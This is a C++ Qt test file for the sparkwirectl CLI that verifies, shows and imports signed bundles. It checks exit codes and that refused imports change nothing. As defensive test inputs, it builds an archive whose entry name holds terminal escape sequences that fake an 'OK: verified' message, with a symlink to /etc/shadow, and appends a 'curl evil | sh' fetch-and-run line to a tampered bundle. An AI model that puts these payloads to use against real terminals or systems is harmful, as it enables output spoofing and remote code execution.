// sparkwirectl bundle verify|show|import on a real signed bundle (the two-node fixture
// cluster) and on tampered and hostile ones: the exit codes of the CLI contract, and an
// import that is refused writes nothing.
#include "../core/bundle/BundleFixture.h"
#include "CtlRunner.h"
#include "bundle/BundleArchive.h"
#include "bundle/BundleReader.h"
#include "peers/PairedPeers.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>

#include <archive.h>
#include <archive_entry.h>

using namespace sparkwire;

class TestCtlBundle : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    QString m_bundle;
    QByteArray m_archive;
    QString m_seat;       // the exporter's state (its identity.pem)
    QString m_exporterId; // its key id

    // The bundle's own files in an uncompressed tar (what `tar -cf` would make of them).
    QByteArray plainTar() const
    {
        archive *a = archive_write_new();
        archive_write_set_format_pax_restricted(a);
        QByteArray out(m_archive.size() * 40 + (1 << 20), '\0');
        size_t used = 0;
        archive_write_open_memory(a, out.data(), size_t(out.size()), &used);
        for (const bundle::BundleEntry &e : bundle::BundleArchive::read(m_archive).valueOr({})) {
            archive_entry *entry = archive_entry_new();
            const QByteArray name = e.path.toUtf8();
            archive_entry_set_pathname(entry, name.constData());
            archive_entry_set_filetype(entry, AE_IFREG);
            archive_entry_set_perm(entry, 0644);
            archive_entry_set_size(entry, e.data.size());
            archive_write_header(a, entry);
            archive_write_data(a, e.data.constData(), size_t(e.data.size()));
            archive_entry_free(entry);
        }
        archive_write_close(a);
        archive_write_free(a);
        out.resize(qsizetype(used));
        return out;
    }

    QString save(const QString &name, const QByteArray &bytes)
    {
        const QString path = m_dir.filePath(name);
        QFile f(path);
        if (!f.open(QIODevice::WriteOnly))
            return {};
        f.write(bytes);
        return path;
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        m_seat = m_dir.filePath(QStringLiteral("seat"));
        const auto exported = BundleFixture::exportTwoNode(m_seat);
        QVERIFY(exported);
        m_exporterId = exported->identity.id();
        m_archive = exported->archive;
        m_bundle = save(exported->source.fileName(), m_archive);
        QVERIFY(!m_bundle.isEmpty());
    }

    // docs/bundle.md: exit 0 only for a signature by this Spark or a paired Spark; 4 for a
    // valid signature by a key this Spark does not know, shown whole.
    void verifyUnknownSigner()
    {
        const CtlResult r =
            ctl({QStringLiteral("bundle"), QStringLiteral("verify"), m_bundle,
                 QStringLiteral("--state-dir"), m_dir.filePath(QStringLiteral("empty"))});
        QVERIFY2(r.exitCode == 4, r.out.constData());
        QVERIFY(r.out.startsWith("SIGNER UNKNOWN: "));
        QVERIFY(!r.out.contains("OK"));
        QVERIFY(r.out.contains(m_exporterId.toLatin1()));
        QVERIFY(!QFileInfo::exists(m_dir.filePath(QStringLiteral("empty"))));
    }

    void verifyByThisSpark()
    {
        const CtlResult r = ctl({QStringLiteral("bundle"), QStringLiteral("verify"), m_bundle,
                                 QStringLiteral("--state-dir"), m_seat});
        QVERIFY2(r.exitCode == 0, r.out.constData());
        QVERIFY(r.out.startsWith("OK: "));
        QVERIFY(r.out.contains("(this Spark)"));
    }

    void verifyByPairedSpark()
    {
        const QString state = m_dir.filePath(QStringLiteral("paired-state"));
        QVERIFY(peers::PairedPeers::makePrivateDir(state).ok());
        QVERIFY(peers::PairedPeers(state)
                    .add({m_exporterId, QStringLiteral("spark-a"), QDateTime::currentDateTimeUtc()})
                    .ok());
        const CtlResult r = ctl({QStringLiteral("bundle"), QStringLiteral("verify"), m_bundle,
                                 QStringLiteral("--state-dir"), state});
        QVERIFY2(r.exitCode == 0, r.out.constData());
        QVERIFY(r.out.contains("(paired as spark-a)"));
    }

    // A cluster record that names the signer (an import writes one from what a bundle says)
    // does not vouch for its key.
    void verifyRecordIsNoTrust()
    {
        const QString state = m_dir.filePath(QStringLiteral("record-state"));
        QVERIFY(peers::PairedPeers::makePrivateDir(state).ok());
        const auto opened = bundle::BundleReader::open(m_archive);
        QVERIFY(opened);
        QVERIFY(opened->manifest.record.save(state).ok());
        QVERIFY(opened->manifest.record.member(m_exporterId));
        const CtlResult r = ctl({QStringLiteral("bundle"), QStringLiteral("verify"), m_bundle,
                                 QStringLiteral("--state-dir"), state});
        QCOMPARE(r.exitCode, 4);
        QVERIFY(!r.out.contains("member of this Spark's cluster"));
    }

    // Names from the archive reach the terminal escaped: a refusal cannot set the title,
    // clear the screen or print a fake "OK: verified" in colour.
    void hostileNamesAreEscaped()
    {
        archive *a = archive_write_new();
        archive_write_set_format_pax_restricted(a);
        archive_write_add_filter_gzip(a);
        QByteArray packed(1 << 16, '\0');
        size_t used = 0;
        archive_write_open_memory(a, packed.data(), size_t(packed.size()), &used);
        archive_entry *entry = archive_entry_new();
        archive_entry_set_pathname(entry, "\x1b]0;pwned\x07\x1b[2J\x1b[32mOK: verified\x1b[0m\n"
                                          "\xe2\x80\xae");
        archive_entry_set_filetype(entry, AE_IFLNK);
        archive_entry_set_symlink(entry, "/etc/shadow");
        archive_write_header(a, entry);
        archive_entry_free(entry);
        archive_write_close(a);
        archive_write_free(a);
        packed.resize(qsizetype(used));
        const QString path = save(QStringLiteral("hostile-name.tar.gz"), packed);
        for (const char *sub : {"verify", "show", "import"}) {
            const CtlResult r =
                ctl({QStringLiteral("bundle"), QLatin1String(sub), path,
                     QStringLiteral("--state-dir"), m_dir.filePath(QStringLiteral("empty"))});
            QVERIFY(r.exitCode != 0);
            QVERIFY2(r.err.contains("symbolic link"), r.err.constData());
            QVERIFY2(r.err.contains("\\u{1b}]0;pwned\\u{7}"), r.err.constData());
            QVERIFY(!r.err.contains('\x1b') && !r.err.contains('\x07'));
            QVERIFY(!r.err.contains("\xe2\x80\xae"));
            QCOMPARE(r.err.count('\n'), qsizetype(sub == QLatin1String("import") ? 2 : 1));
            QVERIFY(r.out.isEmpty());
        }
    }

    void showJson()
    {
        const CtlResult r = ctl({QStringLiteral("bundle"), QStringLiteral("show"), m_bundle,
                                 QStringLiteral("--json"), QStringLiteral("--state-dir"),
                                 m_dir.filePath(QStringLiteral("empty"))});
        QVERIFY2(r.exitCode == 0, r.err.constData());
        const QJsonObject o = QJsonDocument::fromJson(r.out).object();
        QCOMPARE(o.value(QStringLiteral("exporter")).toString(), m_exporterId);
        QCOMPARE(o.value(QStringLiteral("topology")).toString(), QStringLiteral("two-node"));
        QCOMPARE(o.value(QStringLiteral("members")).toArray().size(), 2);
        QCOMPARE(o.value(QStringLiteral("exporterKnown")).toBool(), false);
        QVERIFY(o.value(QStringLiteral("files")).toArray().size() > 15);
    }

    void verifyTampered_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QByteArray>("why");
        QList<bundle::BundleEntry> entries = bundle::BundleArchive::read(m_archive).valueOr({});
        QVERIFY(!entries.isEmpty());
        for (bundle::BundleEntry &e : entries)
            if (e.path == QLatin1String("launch/hostfile"))
                e.data.replace("192.168.177.2", "10.66.66.66");
        QTest::newRow("hostfile changed")
            << bundle::BundleArchive::write(entries, QDateTime::currentDateTimeUtc()).valueOr({})
            << QByteArray("SHA-256");
        QTest::newRow("truncated")
            << m_archive.left(m_archive.size() - 100) << QByteArray("truncated");
        QTest::newRow("garbage") << QByteArray("garbage") << QByteArray("not a Sparkwire bundle");
        // The writer's outer format only: a plain tar of the very same files is refused, and
        // so is anything after the archive's end.
        QTest::newRow("plain tar") << plainTar() << QByteArray("uncompressed tar");
        QTest::newRow("trailing bytes") << m_archive + "#!/bin/sh\ncurl evil | sh\n"
                                        << QByteArray("after the end");
    }
    void verifyTampered()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QByteArray, why);
        const QString path = save(QStringLiteral("tampered.tar.gz"), bytes);
        const CtlResult verify = ctl({QStringLiteral("bundle"), QStringLiteral("verify"), path,
                                      QStringLiteral("--state-dir"), m_seat});
        QCOMPARE(verify.exitCode, 1);
        QVERIFY(verify.err.contains("sparkwirectl bundle verify: "));
        QVERIFY2(verify.err.contains(why), verify.err.constData());
        const CtlResult show = ctl({QStringLiteral("bundle"), QStringLiteral("show"), path});
        QCOMPARE(show.exitCode, 1);
        // import refuses before it looks at this Spark: nothing is written.
        const QString state = m_dir.filePath(QStringLiteral("import-state"));
        const QString root = m_dir.filePath(QStringLiteral("import-root"));
        QDir().mkpath(root);
        const CtlResult import =
            ctl({QStringLiteral("bundle"), QStringLiteral("import"), path, QStringLiteral("--yes"),
                 QStringLiteral("--state-dir"), state, QStringLiteral("--netplan-root"), root});
        QCOMPARE(import.exitCode, 3);
        QVERIFY(import.err.contains("Nothing was changed"));
        QVERIFY2(import.err.contains(why), import.err.constData());
        QVERIFY(!QFileInfo::exists(state));
        QVERIFY(QDir(root).isEmpty());
    }

    // A correctly signed bundle whose netplan for this Spark the policy refuses (it would
    // also manage the management port): refused with the policy's words, nothing written.
    void importRefusesANetplanThePolicyRefuses()
    {
        const QString seat = m_dir.filePath(QStringLiteral("policy-seat"));
        auto exported = BundleFixture::exportTwoNode(seat);
        QVERIFY(exported);
        bundle::BundleSource source = exported->source;
        source.members[0].netplan +=
            "    enP7s7:\n      dhcp4: true\n"; // under network.ethernets: the 1GbE port
        const Result<QByteArray> archive = bundle::BundleWriter::write(
            source, exported->identity.certificatePem(), exported->identity.privateKeyPem());
        QVERIFY(archive);
        const QString path = save(QStringLiteral("policy-refused.tar.gz"), *archive);
        QCOMPARE(ctl({QStringLiteral("bundle"), QStringLiteral("verify"), path,
                      QStringLiteral("--state-dir"), seat})
                     .exitCode,
                 0);
        const QStringList before = QDir(seat).entryList(QDir::AllEntries | QDir::NoDotAndDotDot);
        const QString root = m_dir.filePath(QStringLiteral("policy-root"));
        QDir().mkpath(root);
        const CtlResult import =
            ctl({QStringLiteral("bundle"), QStringLiteral("import"), path, QStringLiteral("--yes"),
                 QStringLiteral("--state-dir"), seat, QStringLiteral("--netplan-root"), root,
                 QStringLiteral("--sysfs-root"),
                 QStringLiteral(SPARKWIRE_FIXTURES "/sysfs/dgx-port1")});
        QCOMPARE(import.exitCode, 3);
        QVERIFY2(import.err.contains("refused by the policy") && import.err.contains("enP7s7"),
                 import.err.constData());
        QVERIFY(import.err.contains("Nothing was changed"));
        QVERIFY(QDir(root).isEmpty());
        QCOMPARE(QDir(seat).entryList(QDir::AllEntries | QDir::NoDotAndDotDot), before);
    }

    void usage()
    {
        QCOMPARE(ctl({QStringLiteral("bundle"), QStringLiteral("verify")}).exitCode, 2);
        QCOMPARE(ctl({QStringLiteral("bundle"), QStringLiteral("frobnicate")}).exitCode, 2);
        const CtlResult help = ctl({QStringLiteral("bundle"), QStringLiteral("--help")});
        QCOMPARE(help.exitCode, 0);
        for (const char *sub : {"export", "verify", "show", "import"})
            QVERIFY(help.out.contains(sub));
    }
};

QTEST_GUILESS_MAIN(TestCtlBundle)
#include "tst_ctl_bundle.moc"
